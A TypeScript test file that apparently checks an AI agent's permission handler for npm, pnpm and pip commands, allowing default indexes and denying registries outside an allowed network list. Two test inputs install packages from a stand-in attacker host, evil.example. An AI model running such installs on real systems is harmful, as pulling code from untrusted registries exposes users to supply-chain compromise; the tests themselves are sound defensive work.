import * as assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { npm, pip } from '../../../../src/agent/policy/handlers/packages';
import { ready } from '../../../helpers/core';
import { handlerWorkspace, runHandler } from '../../../helpers/policyHandler';

let ws: ReturnType<typeof handlerWorkspace>;
before(async () => {
  await ready();
  ws = handlerWorkspace();
});
after(() => ws.remove());

describe('policy handler: package managers', () => {
  it('asks for installs from the default index', () => {
    for (const [handler, command] of [[npm, 'npm ci'], [npm, 'pnpm install --frozen-lockfile'], [pip, 'pip install -r requirements.txt']] as const) {
      const r = runHandler(handler, command, ws.root);
      assert.equal(r.decision, 'ask', command);
      assert.deepEqual(r.hosts, [], command);
    }
  });

  it('checks named registries and indexes against permissions.network', () => {
    const bad = runHandler(npm, 'npm install --registry https://evil.example/ left-pad', ws.root);
    assert.equal(bad.decision, 'deny');
    assert.match(bad.reasons[0], /evil\.example is not in permissions\.network/);
    const ok = runHandler(pip, 'pip3 install --index-url https://github.com/simple pkg', ws.root);
    assert.equal(ok.decision, 'ask');
    assert.deepEqual(ok.hosts, ['github.com']);
    const host = runHandler(pip, 'pip install --trusted-host evil.example pkg', ws.root);
    assert.match(host.reasons[0], /evil\.example is not in permissions\.network/);
  });

  it('leaves local wheel folders alone', () => {
    const r = runHandler(pip, 'pip install --find-links ./wheels pkg', ws.root);
    assert.equal(r.decision, 'ask');
    assert.deepEqual(r.hosts, []);
  });
});
